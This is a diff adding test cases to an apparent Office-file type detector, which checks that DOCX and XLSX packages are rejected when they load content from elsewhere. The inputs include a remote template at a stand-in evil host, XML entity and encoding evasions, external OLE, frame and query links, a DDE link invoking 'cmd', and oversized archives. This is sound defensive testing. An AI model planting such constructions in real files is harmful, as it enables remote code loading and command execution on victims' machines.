@@ -10,6 +10,7 @@ afterAll(() => rmSync(folder, { recursive: true }));
 
 const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
 const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+const ofKind = (kind: string): string => TEMPLATE.replace('attachedTemplate', kind);
 const relations = (inner: string): string => `<Relationships>${inner}</Relationships>`;
 const elsewhere = (type: string, mode = 'External'): string =>
   `<Relationship Id="rId1" Type="${type}" Target="https://evil.example.org/t.dotm" TargetMode="${mode}"/>`;
@@ -56,6 +57,68 @@ describe('An Office file', () => {
       [{ name: SETTINGS, content: Buffer.from(relations(elsewhere(TEMPLATE)), 'utf16le') }],
     ],
     ['describes more than a file can have', [{ name: SETTINGS, content: 'x'.repeat(1_000_001) }]],
+    [
+      'hides what it loads behind a sign in another attribute',
+      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE).replace('Id="rId1"', 'Id="a>b"')) }],
+    ],
+    [
+      'hides it in an entity of its own',
+      [
+        {
+          name: SETTINGS,
+          content: `<!DOCTYPE r [<!ENTITY e "External">]>${relations(elsewhere(TEMPLATE, '&e;'))}`,
+        },
+      ],
+    ],
+    ['has a document type at all', [{ name: SETTINGS, content: `<!DOCTYPE Relationships>${relations('')}` }]],
+    [
+      'hides it in the namespace of another prefix',
+      [{ name: SETTINGS, content: elsewhere(TEMPLATE).replaceAll('Relationship ', 'r:Relationship ') }],
+    ],
+    [
+      'says that it is in an encoding of another time',
+      [{ name: SETTINGS, content: `<?xml version="1.0" encoding="UTF-7"?>${relations('')}` }],
+    ],
+    ['is not well-formed where it says what it is made of', [{ name: SETTINGS, content: '<Relationships>' }]],
+    [
+      'has more parts than a file can have',
+      Array.from({ length: 5_000 }, (_, at) => ({ name: `p${at}`, content: '' })),
+    ],
+    [
+      'describes more in all than a file can have',
+      Array.from({ length: 5 }, (_, at) => ({
+        name: `word/_rels/p${at}.xml.rels`,
+        content: `${relations('')}${' '.repeat(900_000)}`,
+      })),
+    ],
+    ...['image', 'oleObject', 'frame', 'subDocument', 'video', 'audio', 'slicerCache', 'externalLink'].map(
+      (kind): [string, ZipEntry[]] => [
+        `loads something from elsewhere: ${kind}`,
+        [{ name: 'word/_rels/document.xml.rels', content: relations(elsewhere(ofKind(kind))) }],
+      ],
+    ),
+    ...['External', 'Internal'].map((mode): [string, ZipEntry[]] => [
+      `puts another file in its place: ${mode}`,
+      [{ name: 'word/_rels/document.xml.rels', content: relations(elsewhere(ofKind('aFChunk'), mode)) }],
+    ]),
+    ...['connections', 'queryTable'].map((kind): [string, ZipEntry[]] => [
+      `fetches data when it is opened: ${kind}`,
+      [{ name: 'xl/_rels/workbook.xml.rels', content: relations(elsewhere(ofKind(kind), 'Internal')) }],
+    ]),
+    [
+      'asks another program for its cells',
+      [
+        {
+          name: 'xl/externalLinks/externalLink1.xml',
+          content: '<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>',
+        },
+      ],
+    ],
+    [
+      'asks one from a place where nobody looks',
+      [],
+      '<Override PartName="/xl/a.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
+    ],
   ])('that %s is none of the types', async (_, further, types = '') => {
     expect(await typeWith(further, types)).toBeNull();
   });
@@ -65,6 +128,19 @@ describe('An Office file', () => {
     [
       'has a link',
       [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE.replace('attachedTemplate', 'hyperlink'))) }],
+    ],
+    [
+      'is linked to another workbook',
+      [
+        {
+          name: 'xl/externalLinks/externalLink1.xml',
+          content: '<externalLink><externalBook/></externalLink>',
+        },
+        {
+          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+          content: relations(elsewhere(ofKind('externalLinkPath'))),
+        },
+      ],
     ],
     ['has its template in itself', [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE, 'Internal')) }]],
   ])('that %s is a document', async (_, further) => {
